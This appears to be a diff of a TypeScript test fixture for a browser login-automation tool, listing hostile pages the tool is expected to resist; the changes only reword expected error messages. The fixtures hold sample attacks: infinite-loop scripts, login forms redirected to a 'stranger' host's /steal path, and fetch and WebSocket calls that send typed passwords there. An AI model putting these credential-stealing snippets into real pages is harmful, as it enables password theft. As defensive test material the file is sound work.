@@ -52,16 +52,16 @@ export const pages: Readonly<Record<string, HostilePage>> = {
     ends: {
       status: 200,
       stops: /^the (username|password) page could not be used: Timeout/,
-      failure: /^the pages had led nowhere after 12000 ms/,
+      failure: /^the pages led to no result within 12000 ms/,
     },
   },
   'opens dialogs without end': {
     answer: () => page('<script>for (;;) alert("stop")</script>'),
-    ends: { failure: /^a page had not come to its end after 6000 ms$/ },
+    ends: { failure: /^a page was still loading after 6000 ms$/ },
   },
   'keeps its renderer busy': {
     answer: () => page('<p>soon</p><script>for (;;);</script>'),
-    ends: { failure: /^a page had not come to its end after 6000 ms$/ },
+    ends: { failure: /^a page was still loading after 6000 ms$/ },
   },
   'does not let itself be left': {
     answer: () =>
@@ -92,7 +92,7 @@ export const pages: Readonly<Record<string, HostilePage>> = {
   'never answers its form': {
     answer: () => form('<form method=post><button>Accept</button></form>', () => {}),
     ends: {
-      failure: /^(the pages had led nowhere after 12000 ms|the consent page could not be used: Timeout)/,
+      failure: /^(the pages led to no result within 12000 ms|the consent page could not be used: Timeout)/,
     },
   },
   'keeps its renderer busy once it is touched': {
@@ -107,16 +107,18 @@ export const pages: Readonly<Record<string, HostilePage>> = {
       form(loginForm, (_request, response) =>
         response.writeHead(307, { location: `${stranger}/steal` }).end(),
       ),
-    ends: { stops: /^the login form sends the password on to http:\/\/127\.0\.0\.1:\d+: kept from it$/ },
+    ends: {
+      stops: /^the login form would send the password to http:\/\/127\.0\.0\.1:\d+, which was prevented$/,
+    },
   },
   'has a form for a stranger': {
     answer: (stranger) => page(loginForm.replace('/login', `${stranger}/steal`)),
-    ends: { stops: /^the login form sends the password on to/ },
+    ends: { stops: /^the login form would send the password to/ },
   },
   'tells a stranger what is typed': {
     answer: (stranger) =>
       page(typedTo(`fetch('${stranger}/steal?' + encodeURIComponent(event.target.value))`)),
-    ends: { stops: /^the login form sends the password on to/ },
+    ends: { stops: /^the login form would send the password to/ },
   },
   'has a form for a stranger in a new window': {
     answer: (stranger) => page(loginForm.replace('action=/login', `target=_blank action=${stranger}/steal`)),
@@ -129,7 +131,7 @@ export const pages: Readonly<Record<string, HostilePage>> = {
   'opens a WebSocket for what is typed': {
     answer: (stranger) =>
       page(typedTo(`new WebSocket('${stranger.replace('http', 'ws')}/steal?' + event.target.value)`)),
-    ends: { stops: /^the login form sends the password on to/ },
+    ends: { stops: /^the login form would send the password to/ },
   },
   'opens a WebSocket, and tells what is typed later': {
     answer: (stranger) =>
@@ -141,7 +143,7 @@ export const pages: Readonly<Record<string, HostilePage>> = {
   'is at a stranger': {
     answer: (stranger) => (_request, response) =>
       response.writeHead(302, { location: `${stranger}/login` }).end(),
-    ends: { stops: /^the login page is at http:\/\/127\.0\.0\.1:\d+, which is no configured server/ },
+    ends: { stops: /^the login page is at http:\/\/127\.0\.0\.1:\d+, which is not a configured server/ },
   },
 };
 
